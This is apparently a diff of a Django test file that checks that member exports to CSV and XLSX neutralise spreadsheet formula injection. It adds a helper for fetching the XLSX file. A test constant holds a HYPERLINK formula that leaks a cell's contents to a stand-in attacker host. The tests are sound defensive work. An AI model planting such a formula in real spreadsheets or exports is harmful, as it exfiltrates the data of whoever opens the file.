@@ -8,6 +8,7 @@ from openpyxl import load_workbook
 
 from core.tabular import safe_cell, table_response
 from tests.factories import member_of
+from tests.support.exports import xlsx_export
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'
 
@@ -32,11 +33,13 @@ def test_csv_and_xlsx_downloads_carry_text_not_formulas():
 
 
 @pytest.mark.django_db
-def test_member_export_neutralizes_a_formula_name(login, secretary_a, society_a):
+def test_member_export_neutralizes_a_formula_name(
+    login, secretary_a, society_a, django_capture_on_commit_callbacks
+):
     member_of(society_a, name=FORMULA)
     client = login(secretary_a)
-    csv = client.get(f"/societies/{society_a.pk}/members/export/csv/").content.decode("utf-8-sig")
+    csv = client.get(f"/societies/{society_a.pk}/members/export/csv/").getvalue().decode("utf-8-sig")
     assert "'=HYPERLINK" in csv and ",=HYPERLINK" not in csv
-    xlsx = client.get(f"/societies/{society_a.pk}/members/export/xlsx/").content
+    xlsx = xlsx_export(client, society_a, django_capture_on_commit_callbacks)
     values = [c.value for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows() for c in row]
     assert "'" + FORMULA in values and FORMULA not in values
